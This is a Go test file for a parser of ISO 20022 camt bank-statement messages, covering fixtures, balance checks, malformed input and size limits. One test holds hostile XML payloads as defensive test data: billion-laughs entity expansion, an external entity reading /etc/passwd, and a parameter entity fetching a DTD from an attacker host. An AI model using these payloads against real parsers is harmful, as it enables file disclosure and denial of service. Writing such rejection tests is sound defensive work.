package bankstatement

import (
	"bytes"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// The public camt samples (testdata/camt, from the genkgo/camt test suite):
// every well-formed one parses to exactly these values, read off the files.
func TestCamtFixtures(t *testing.T) {
	tests := []struct {
		file, format, version, msgID string
		want                         []sumStatement
	}{{
		// The closing balance is a debit in SEK while the account and the
		// opening balance are EUR: a deliberately inconsistent sample.
		file: "camt053.v2.minimal.xml", format: "camt.053", version: "001.02", msgID: "CAMT053RIB000000000001",
		want: []sumStatement{{
			ID: "253EURNL26VAYB8060476890", Account: "NL26VAYB8060476890", Currency: "EUR",
			Opening: "18.15 EUR 2014-12-30", Closing: "-27.00 SEK 2014-12-31",
			Check: Inconsistent, Difference: "-54.00", CreditCount: 1,
			Entries: []sumEntry{{Amount: "8.85", Currency: "EUR", Direction: Credit, Booking: "2014-12-31", Value: "2015-01-02", Code: "544"}},
		}},
	}, {
		file: "camt053.v2.multi.statement.xml", format: "camt.053", version: "001.02", msgID: "CAMT053RIB000000000001",
		want: []sumStatement{{
			ID: "253EURNL26VAYB8060476890", Account: "NL26VAYB8060476890", Currency: "EUR",
			Opening: "18.15 EUR 2014-12-30", Closing: "27.00 EUR 2014-12-31",
			Check: Consistent, Difference: "0.00", CreditCount: 1,
			Entries: []sumEntry{{Amount: "8.85", Currency: "EUR", Direction: Credit, Booking: "2014-12-31", Value: "2015-01-02", E2E: "000000001", Code: "544"}},
		}, {
			ID: "254EURNL26VAYB8060476890", Account: "NL26VAYB8060476890", Currency: "EUR",
			Opening: "27.00 EUR 2014-12-30", Closing: "20.00 EUR 2014-12-31",
			Check: Consistent, Difference: "0.00", DebitCount: 1,
			Entries: []sumEntry{{Amount: "7.00", Currency: "EUR", Direction: Debit, Booking: "2014-12-31", Value: "2015-01-02", E2E: "000000002", Code: "544"}},
		}},
	}, {
		// Account identified by Othr/Id, no Acct/Ccy (the currency comes from
		// the opening balance); closing balance in SEK as above.
		file: "camt053.v4.xml", format: "camt.053", version: "001.04", msgID: "CAMT053RIB000000000001",
		want: []sumStatement{{
			ID: "253EURNL26VAYB8060476890", Account: "NL26VAYB8060476890", Currency: "EUR",
			Opening: "18.15 EUR 2014-12-30", Closing: "-27.00 SEK 2014-12-30",
			Check: Inconsistent, Difference: "-54.00", CreditCount: 1,
			Entries: []sumEntry{{Amount: "8.85", Currency: "EUR", Direction: Credit, Booking: "2014-12-31", Value: "2015-01-02",
				BankRef: "AAAASESS-FP-CN_98765/01", Code: "PAYM/0001/0005"}},
		}},
	}, {
		// A notification has no balances; its booking date is a date-time.
		file: "camt054.v2.xml", format: "camt.054", version: "001.02", msgID: "AAAASESS-FP-ACCR001",
		want: []sumStatement{{
			ID: "AAAASESS-FP-ACCR001", Account: "CH2801234000123456789", Currency: "SEK",
			Check: Unchecked, DebitCount: 1,
			Entries: []sumEntry{{Amount: "200000", Currency: "SEK", Direction: Debit, Booking: "2007-10-18", Value: "2007-10-18",
				BankRef: "AAAASESS-FP-ACCR001", E2E: "MUELL/FINP/RA12345", Code: "PMNT/ICDT/DMCT"}},
		}},
	}}
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			f, err := Parse(readFixture(t, "camt/"+tt.file))
			if err != nil {
				t.Fatal(err)
			}
			if string(f.Format) != tt.format || f.Version != tt.version || f.MessageID != tt.msgID {
				t.Errorf("got %s %s %q, want %s %s %q", f.Format, f.Version, f.MessageID, tt.format, tt.version, tt.msgID)
			}
			var got []sumStatement
			for _, st := range f.Statements {
				got = append(got, summarize(st))
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("statements (-want +got):\n%s", diff)
			}
		})
	}
}

func TestCamtFixtureDetails(t *testing.T) {
	f, err := Parse(readFixture(t, "camt/camt053.v2.minimal.xml"))
	if err != nil {
		t.Fatal(err)
	}
	st := f.Statements[0]
	if st.SequenceNumber != "12312" || st.Info != "Additional Information" {
		t.Errorf("sequence %q info %q", st.SequenceNumber, st.Info)
	}
	var types []string
	for _, b := range st.Balances {
		types = append(types, b.Type+" "+FormatAmount(b.Amount)+" "+b.Currency)
	}
	if diff := cmp.Diff([]string{"OPBD 18.15 EUR", "CLBD -27.00 SEK", "OPAV 35.00 CHF", "CLAV -2700 JPY"}, types); diff != "" {
		t.Errorf("balances (-want +got):\n%s", diff)
	}
	if !strings.Contains(st.Check.Reason, "closing balance is in SEK") {
		t.Errorf("reason %q does not name the currency mismatch", st.Check.Reason)
	}
	e := st.Entries[0]
	if e.Status != "BOOK" || e.Reversal || len(e.Details) != 1 ||
		e.Counterparty != (Party{Name: "NAME NAME", Account: "NL56AGDH9619008421"}) ||
		e.Details[0].CreditorReference != "4654654654654654" {
		t.Errorf("entry details: %+v", e)
	}

	f, err = Parse(readFixture(t, "camt/camt054.v2.xml"))
	if err != nil {
		t.Fatal(err)
	}
	e = f.Statements[0].Entries[0]
	if len(e.Details) != 3 {
		t.Fatalf("got %d transaction details, want 3", len(e.Details))
	}
	var remit []string
	for _, d := range e.Details {
		remit = append(remit, d.RemittanceInfo+" | "+d.CreditorReference)
	}
	want := []string{
		"Unstructured Remittance Information V1 | ISR ref number V1",
		" | ISR ref number V2",
		"Unstructured Remittance Information V3 block 1 Unstructured Remittance Information V3 block 2 | Ref number V3 block 1",
	}
	if diff := cmp.Diff(want, remit); diff != "" {
		t.Errorf("remittance (-want +got):\n%s", diff)
	}
	// Three transactions: nothing is lifted to the entry but what they agree on.
	if e.RemittanceInfo != "" || e.Counterparty.Name != "" || e.EndToEndID != "MUELL/FINP/RA12345" {
		t.Errorf("entry-level summary: remittance %q counterparty %q e2e %q", e.RemittanceInfo, e.Counterparty.Name, e.EndToEndID)
	}

	f, err = Parse(readFixture(t, "camt/camt053.v4.xml"))
	if err != nil {
		t.Fatal(err)
	}
	d := f.Statements[0].Entries[0].Details[0]
	if !d.HasAmount || FormatAmount(d.Amount) != "0" || d.Currency != "SEK" || d.Direction != Credit {
		t.Errorf("TxDtls amount: %+v", d)
	}
}

func TestCamtFixturesRejected(t *testing.T) {
	// camt.052 is an intraday account report, not a statement: refused by
	// namespace, which the reason names.
	_, err := Parse(readFixture(t, "camt/camt052.v2.xml"))
	wantParseError(t, err, ErrUnsupportedNamespace, `"urn:iso:std:iso:20022:tech:xsd:camt.052.001.02"`, "line 2")

	// camt053.v2.wrong.xml has a group header and no statement at all.
	_, err = Parse(readFixture(t, "camt/camt053.v2.wrong.xml"))
	wantParseError(t, err, ErrMalformed, "camt.053", "contains no <Stmt>", "line 9")
}

const testAcct = `<Id>S-1</Id><Acct><Id><IBAN>CN7710290000012345678901</IBAN></Id><Ccy>CNY</Ccy></Acct>`

func camtNS(msg, version string) string {
	return "urn:iso:std:iso:20022:tech:xsd:camt." + msg + ".001." + version
}

// camt053 wraps statement content in a camt.053.001.08 document.
func camt053(stmt string) []byte { return camtDocument(camtNS("053", "08"), stmt) }

func camtDocument(ns, stmt string) []byte {
	msg, el := "BkToCstmrStmt", "Stmt"
	if strings.Contains(ns, "camt.054") {
		msg, el = "BkToCstmrDbtCdtNtfctn", "Ntfctn"
	}
	return []byte(`<?xml version="1.0" encoding="UTF-8"?>` + "\n" +
		`<Document xmlns="` + ns + `">` + "\n<" + msg + "><GrpHdr><MsgId>M-1</MsgId><CreDtTm>2026-01-15T18:00:00+08:00</CreDtTm></GrpHdr>\n<" +
		el + ">" + stmt + "</" + el + ">\n</" + msg + ">\n</Document>\n")
}

func bal(code, amount, ind string) string {
	return `<Bal><Tp><CdOrPrtry><Cd>` + code + `</Cd></CdOrPrtry></Tp><Amt Ccy="CNY">` + amount +
		`</Amt><CdtDbtInd>` + ind + `</CdtDbtInd><Dt><Dt>2026-01-15</Dt></Dt></Bal>`
}

func ntry(amount, ind, extra string) string {
	return "\n<Ntry><Amt Ccy=\"CNY\">" + amount + "</Amt><CdtDbtInd>" + ind + "</CdtDbtInd>" +
		"<Sts><Cd>BOOK</Cd></Sts><BookgDt><Dt>2026-01-15</Dt></BookgDt><ValDt><Dt>2026-01-16</Dt></ValDt>" + extra + "</Ntry>"
}

// Every supported version of both messages parses, with the entry status
// written either way (a plain code up to 001.06, a Cd choice later) and the
// party name either way (Nm, or Pty/Nm from 001.08).
func TestCamtAllVersions(t *testing.T) {
	for _, msg := range []string{"053", "054"} {
		for v := 2; v <= 8; v++ {
			for _, sts := range []string{"<Sts>BOOK</Sts>", "<Sts><Cd>BOOK</Cd></Sts>"} {
				version := fmt.Sprintf("%02d", v)
				party := "<Dbtr><Nm>Payer Ltd</Nm></Dbtr>"
				if v == 8 {
					party = "<Dbtr><Pty><Nm>Payer Ltd</Nm></Pty></Dbtr>"
				}
				balances := bal("OPBD", "100.00", "CRDT") + bal("CLBD", "150.50", "CRDT")
				if msg == "054" {
					balances = ""
				}
				body := testAcct + balances +
					`<Ntry><Amt Ccy="CNY">50.50</Amt><CdtDbtInd>CRDT</CdtDbtInd>` + sts +
					`<BookgDt><Dt>2026-01-15</Dt></BookgDt><ValDt><Dt>2026-01-15</Dt></ValDt><AcctSvcrRef>BANK-1</AcctSvcrRef>` +
					`<NtryDtls><TxDtls><Refs><EndToEndId>E2E-1</EndToEndId></Refs><RltdPties>` + party + `</RltdPties></TxDtls></NtryDtls></Ntry>`
				f, err := Parse(camtDocument(camtNS(msg, version), body))
				if err != nil {
					t.Fatalf("camt.%s.001.%s: %v", msg, version, err)
				}
				st := f.Statements[0]
				e := st.Entries[0]
				if string(f.Format) != "camt."+msg || f.Version != "001."+version || e.Status != "BOOK" ||
					e.EndToEndID != "E2E-1" || e.BankReference != "BANK-1" || e.Counterparty.Name != "Payer Ltd" {
					t.Errorf("camt.%s.001.%s: %s %s entry %+v", msg, version, f.Format, f.Version, e)
				}
				wantCheck := Consistent
				if msg == "054" {
					wantCheck = Unchecked
				}
				if st.Check.Status != wantCheck {
					t.Errorf("camt.%s.001.%s: check %s (%s)", msg, version, st.Check.Status, st.Check.Reason)
				}
			}
		}
	}
}

func TestCamtUnsupportedNamespaces(t *testing.T) {
	for _, ns := range []string{
		camtNS("052", "02"), camtNS("053", "01"), camtNS("053", "09"), camtNS("054", "10"),
		"urn:iso:std:iso:20022:tech:xsd:pain.001.001.03", "urn:example:camt.053.001.02", "",
	} {
		_, err := Parse(camtDocument(ns, testAcct))
		frag := fmt.Sprintf("%q", ns)
		if ns == "" {
			frag = "no namespace"
		}
		wantParseError(t, err, ErrUnsupportedNamespace, frag)
	}
	_, err := Parse([]byte(`<html><body/></html>`))
	wantParseError(t, err, ErrUnknownFormat, "<html>")
}

func TestCamtBalanceCheck(t *testing.T) {
	tests := []struct {
		name, body string
		check      CheckStatus
		diff       string
		reason     string
	}{
		{"consistent", testAcct + bal("OPBD", "1000.00", "CRDT") + bal("CLBD", "1200.25", "CRDT") +
			ntry("300.25", "CRDT", "") + ntry("100.00", "DBIT", ""), Consistent, "0.00", ""},
		{"debit balances are negative", testAcct + bal("OPBD", "50.00", "DBIT") + bal("CLBD", "25.00", "CRDT") +
			ntry("75.00", "CRDT", ""), Consistent, "0.00", ""},
		{"mismatch reports the difference", testAcct + bal("OPBD", "1000.00", "CRDT") + bal("CLBD", "1200.00", "CRDT") +
			ntry("300.25", "CRDT", "") + ntry("100.00", "DBIT", ""), Inconsistent, "-0.25",
			"opening 1000.00 + credits 300.25 - debits 100.00 = 1200.25, but the closing balance is 1200.00 (difference -0.25)"},
		{"indicator matters", testAcct + bal("OPBD", "10.00", "CRDT") + bal("CLBD", "5.00", "CRDT") +
			ntry("5.00", "CRDT", ""), Inconsistent, "-10.00", "difference -10.00"},
		{"PRCD opens a statement without OPBD", testAcct + bal("PRCD", "10.00", "CRDT") + bal("CLBD", "15.00", "CRDT") +
			ntry("5.00", "CRDT", ""), Consistent, "0.00", ""},
		{"pending entries do not move the booked balance", testAcct + bal("OPBD", "10.00", "CRDT") + bal("CLBD", "15.00", "CRDT") +
			ntry("5.00", "CRDT", "") + strings.Replace(ntry("99.00", "DBIT", ""), "BOOK", "PDNG", 1), Consistent, "0.00", ""},
		{"a reversal counts in its own direction", testAcct + bal("OPBD", "10.00", "CRDT") + bal("CLBD", "5.00", "CRDT") +
			strings.Replace(ntry("5.00", "DBIT", ""), "<Sts>", "<RvslInd>true</RvslInd><Sts>", 1), Consistent, "0.00", ""},
		{"no closing balance", testAcct + bal("OPBD", "10.00", "CRDT") + bal("CLAV", "10.00", "CRDT"), Unchecked, "", "no closing booked balance"},
		{"entry in another currency", testAcct + bal("OPBD", "10.00", "CRDT") + bal("CLBD", "15.00", "CRDT") +
			strings.Replace(ntry("5.00", "CRDT", ""), "CNY", "USD", 1), Inconsistent, "0.00", "is in USD, the statement in CNY"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f, err := Parse(camt053(tt.body))
			if err != nil {
				t.Fatal(err)
			}
			c := f.Statements[0].Check
			got := ""
			if c.Status != Unchecked {
				got = FormatAmount(c.Difference)
			}
			if c.Status != tt.check || got != tt.diff || !strings.Contains(c.Reason, tt.reason) {
				t.Errorf("got %s difference %q reason %q; want %s %q %q", c.Status, got, c.Reason, tt.check, tt.diff, tt.reason)
			}
		})
	}
}

func TestCamtEntryReferences(t *testing.T) {
	two := `<NtryDtls><TxDtls><Refs><AcctSvcrRef>TX-REF</AcctSvcrRef><InstrId>I-1</InstrId><EndToEndId>A</EndToEndId></Refs></TxDtls>` +
		`<TxDtls><Refs><EndToEndId>B</EndToEndId></Refs></TxDtls></NtryDtls>`
	notProv := `<NtryDtls><TxDtls><Refs><EndToEndId>NOTPROVIDED</EndToEndId><InstrId>I-9</InstrId></Refs>` +
		`<RmtInf><Ustrd>first</Ustrd><Ustrd>second</Ustrd></RmtInf></TxDtls></NtryDtls>`
	f, err := Parse(camt053(testAcct + ntry("1.00", "CRDT", two) + ntry("2.00", "DBIT", notProv)))
	if err != nil {
		t.Fatal(err)
	}
	batch, single := f.Statements[0].Entries[0], f.Statements[0].Entries[1]
	// A batch with different end-to-end ids has none at entry level; the
	// one bank reference among its transactions is lifted.
	if batch.EndToEndID != "" || batch.BankReference != "TX-REF" || len(batch.Details) != 2 ||
		batch.Details[0].EndToEndID != "A" || batch.Details[1].EndToEndID != "B" || batch.CustomerReference != "" {
		t.Errorf("batch entry: %+v", batch)
	}
	if single.EndToEndID != "" || single.CustomerReference != "I-9" || single.RemittanceInfo != "first second" {
		t.Errorf("single entry: %+v", single)
	}
}

func TestCamtNamespacePrefixesAndForeignElements(t *testing.T) {
	doc := `<?xml version="1.0"?>
<c:Document xmlns:c="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02" xmlns:x="urn:example:ext">
 <c:BkToCstmrStmt><c:GrpHdr><c:MsgId>P-1</c:MsgId></c:GrpHdr>
  <c:Stmt><c:Id>S</c:Id><c:Acct><c:Id><c:Othr><c:Id>ACC-9</c:Id></c:Othr></c:Id><c:Ccy>USD</c:Ccy></c:Acct>
   <c:Bal><c:Tp><c:CdOrPrtry><c:Cd>OPBD</c:Cd></c:CdOrPrtry></c:Tp><c:Amt Ccy="USD">1</c:Amt><c:CdtDbtInd>CRDT</c:CdtDbtInd><c:Dt><c:Dt>2026-01-15</c:Dt></c:Dt></c:Bal>
   <c:Bal><c:Tp><c:CdOrPrtry><c:Cd>CLBD</c:Cd></c:CdOrPrtry></c:Tp><c:Amt Ccy="USD">3</c:Amt><c:CdtDbtInd>CRDT</c:CdtDbtInd><c:Dt><c:Dt>2026-01-15</c:Dt></c:Dt></c:Bal>
   <!-- an extension element named like an entry must not count as one -->
   <x:Ntry><c:Amt Ccy="USD">1000</c:Amt></x:Ntry>
   <c:Ntry><c:Amt Ccy="USD">2</c:Amt><c:CdtDbtInd>CRDT</c:CdtDbtInd><c:Sts>BOOK</c:Sts><c:BookgDt><c:Dt>2026-01-15</c:Dt></c:BookgDt><c:BkTxCd/></c:Ntry>
  </c:Stmt>
 </c:BkToCstmrStmt>
</c:Document>`
	f, err := Parse([]byte(doc))
	if err != nil {
		t.Fatal(err)
	}
	st := f.Statements[0]
	if f.MessageID != "P-1" || st.Account != "ACC-9" || st.Currency != "USD" || len(st.Entries) != 1 || st.Check.Status != Consistent {
		t.Errorf("got %+v", st)
	}
}

func TestCamtMalformed(t *testing.T) {
	entry := func(s string) []byte { return camt053(testAcct + s) }
	tests := []struct {
		name      string
		doc       []byte
		sentinel  error
		fragments []string
	}{
		{"too many fraction digits", entry(ntry("1.123456", "CRDT", "")), ErrMalformed,
			[]string{"line 5", "Ntry/Amt", `"1.123456" has 6 fraction digits; at most 5`}},
		{"negative amount", entry(ntry("-5.00", "CRDT", "")), ErrMalformed, []string{"line 5", "Ntry/Amt", "negative amount"}},
		{"exponent", entry(ntry("1E+3", "CRDT", "")), ErrMalformed, []string{"Ntry/Amt", "malformed amount"}},
		{"negative balance amount", entry(bal("OPBD", "-1.00", "DBIT")), ErrMalformed, []string{"Bal/Amt", "negative amount"}},
		{"transaction amount", entry(ntry("1.00", "CRDT", `<NtryDtls><TxDtls><Amt Ccy="CNY">1.0000001</Amt></TxDtls></NtryDtls>`)), ErrMalformed,
			[]string{"TxDtls/Amt", "7 fraction digits"}},
		{"no currency", entry(strings.Replace(ntry("1.00", "CRDT", ""), ` Ccy="CNY"`, "", 1)), ErrMalformed, []string{"Ntry/Amt", "missing Ccy"}},
		{"lower-case currency", entry(strings.Replace(ntry("1.00", "CRDT", ""), `"CNY"`, `"cny"`, 1)), ErrMalformed, []string{`invalid currency "cny"`}},
		{"bad account currency", []byte(strings.Replace(string(camt053(testAcct)), "<Ccy>CNY", "<Ccy>RMB1", 1)), ErrMalformed, []string{"Acct/Ccy", `"RMB1"`}},
		{"bad indicator", entry(ntry("1.00", "CREDIT", "")), ErrMalformed, []string{"Ntry/CdtDbtInd", `"CREDIT"`}},
		{"no indicator", entry(strings.Replace(ntry("1.00", "CRDT", ""), "<CdtDbtInd>CRDT</CdtDbtInd>", "", 1)), ErrMalformed,
			[]string{"line 5", "entry has no <CdtDbtInd>"}},
		{"no amount", entry("<Ntry><CdtDbtInd>CRDT</CdtDbtInd></Ntry>"), ErrMalformed, []string{"entry has no <Amt>"}},
		{"balance without indicator", entry(strings.Replace(bal("OPBD", "1.00", "CRDT"), "<CdtDbtInd>CRDT</CdtDbtInd>", "", 1)), ErrMalformed,
			[]string{"OPBD balance has no <CdtDbtInd>"}},
		{"two closing balances", entry(bal("CLBD", "1.00", "CRDT") + bal("CLBD", "1.00", "CRDT")), ErrMalformed, []string{"two CLBD balances"}},
		{"bad date", entry(strings.Replace(ntry("1.00", "CRDT", ""), "2026-01-15", "2026-02-30", 1)), ErrMalformed, []string{"Ntry/BookgDt", `malformed date "2026-02-30"`}},
		{"bad date-time", entry(strings.Replace(ntry("1.00", "CRDT", ""), "<Dt>2026-01-15</Dt>", "<DtTm>2026-01-15 10:00</DtTm>", 1)), ErrMalformed, []string{"malformed date-time"}},
		{"bad reversal flag", entry(strings.Replace(ntry("1.00", "CRDT", ""), "<Sts>", "<RvslInd>yes</RvslInd><Sts>", 1)), ErrMalformed, []string{"Ntry/RvslInd"}},
		{"no account", camt053(`<Id>S</Id>` + ntry("1.00", "CRDT", "")), ErrMalformed, []string{"no account identification"}},
		{"text in a structure", entry("<Ntry>stray<Amt Ccy=\"CNY\">1</Amt></Ntry>"), ErrMalformed, []string{`unexpected text "stray"`}},
		{"element in a text element", entry("<Ntry><Amt Ccy=\"CNY\">1<b/></Amt></Ntry>"), ErrMalformed, []string{"unexpected element <b>"}},
		{"truncated", camt053(testAcct)[:200], ErrMalformed, []string{"not closed"}},
		{"mismatched tags", []byte(strings.Replace(string(camt053(testAcct)), "</Acct>", "</Acc>", 1)), ErrMalformed, []string{"line 4", "does not match"}},
		{"second root", append(camt053(testAcct), "<Document/>"...), ErrMalformed, []string{"after the root"}},
		{"two messages", []byte(strings.Replace(string(camt053(testAcct)), "</BkToCstmrStmt>", "</BkToCstmrStmt><BkToCstmrStmt/>", 1)), ErrMalformed,
			[]string{"exactly one <BkToCstmrStmt>"}},
		{"undefined entity", entry("<Ntry><NtryRef>&ext;</NtryRef></Ntry>"), ErrMalformed, []string{"undefined entity"}},
		{"latin-1 declared", []byte(strings.Replace(string(camt053(testAcct)), "UTF-8", "ISO-8859-1", 1)), ErrMalformed, []string{"ISO-8859-1"}},
		{"not utf-8", []byte(strings.Replace(string(camt053(testAcct)), "S-1", "S-\xfc", 1)), ErrMalformed, []string{"invalid UTF-8"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Parse(tt.doc)
			wantParseError(t, err, tt.sentinel, tt.fragments...)
		})
	}
}

func TestCamtRefusesDTDs(t *testing.T) {
	head := `<?xml version="1.0" encoding="UTF-8"?>` + "\n"
	doc := string(camt053(testAcct))
	body := doc[len(head):]
	tests := map[string]string{
		"doctype": head + `<!DOCTYPE Document>` + "\n" + body,
		"billion laughs": head + `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">` +
			`<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>` + "\n" +
			strings.Replace(body, "S-1", "&lol3;", 1),
		"external entity": head + `<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>` + "\n" +
			strings.Replace(body, "S-1", "&xxe;", 1),
		"parameter entity":                head + `<!DOCTYPE Document [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>` + "\n" + body,
		"declaration inside the document": strings.Replace(doc, "<Stmt>", `<Stmt><!ENTITY x "y">`, 1),
		"lower-case doctype":              head + `<!doctype Document>` + "\n" + body,
	}
	for name, d := range tests {
		t.Run(name, func(t *testing.T) {
			_, err := Parse([]byte(d))
			wantParseError(t, err, ErrForbiddenDTD, "markup declarations are refused")
		})
	}
	// The words inside a comment or CDATA are not a declaration.
	ok := strings.Replace(doc, "<Stmt>", `<Stmt><!-- <!DOCTYPE x> --><Id><![CDATA[<!ENTITY y>]]></Id>`, 1)
	ok = strings.Replace(ok, "<Id>S-1</Id>", "", 1)
	f, err := Parse([]byte(ok))
	if err != nil {
		t.Fatalf("comment/CDATA mentioning DOCTYPE refused: %v", err)
	}
	if f.Statements[0].ID != "<!ENTITY y>" {
		t.Errorf("statement id %q", f.Statements[0].ID)
	}
}

func TestSizeLimit(t *testing.T) {
	data := readFixture(t, "camt/camt053.v2.multi.statement.xml")
	_, err := Options{MaxBytes: int64(len(data)) - 1}.Parse(data)
	wantParseError(t, err, ErrTooLarge, fmt.Sprintf("%d-byte limit", len(data)-1))
	if _, err := (Options{MaxBytes: int64(len(data))}).Parse(data); err != nil {
		t.Errorf("file exactly at the limit: %v", err)
	}

	// ParseReader stops reading at the limit instead of slurping the input.
	r := &countingReader{r: io.LimitReader(zeroReader{}, 1<<30)}
	_, err = Options{MaxBytes: 1 << 20}.ParseReader(r)
	wantParseError(t, err, ErrTooLarge)
	if r.n > 1<<20+1 {
		t.Errorf("read %d bytes for a 1 MiB limit", r.n)
	}
	if DefaultMaxBytes != 64<<20 {
		t.Errorf("DefaultMaxBytes = %d", DefaultMaxBytes)
	}
	_, err = Parse(bytes.Repeat([]byte(" "), DefaultMaxBytes+1))
	wantParseError(t, err, ErrTooLarge)
}

type zeroReader struct{}

func (zeroReader) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = ' '
	}
	return len(p), nil
}

type countingReader struct {
	r io.Reader
	n int
}

func (c *countingReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n += n
	return n, err
}

func TestDetectFormat(t *testing.T) {
	for _, in := range []string{"", "   \n", "hello", "%PDF-1.4", `{"format":"json"}`} {
		_, err := Parse([]byte(in))
		if in == `{"format":"json"}` {
			// '{' is how a SWIFT FIN envelope starts; it fails as MT940.
			wantParseError(t, err, ErrMalformed, "mt940")
			continue
		}
		wantParseError(t, err, ErrUnknownFormat)
	}
	// A byte order mark and leading blank lines are tolerated.
	data := append([]byte("\xef\xbb\xbf\n"), readFixture(t, "camt/camt054.v2.xml")...)
	if f, err := Parse(data); err != nil || f.Format != FormatCamt054 {
		t.Errorf("BOM-prefixed camt.054: %v", err)
	}
}
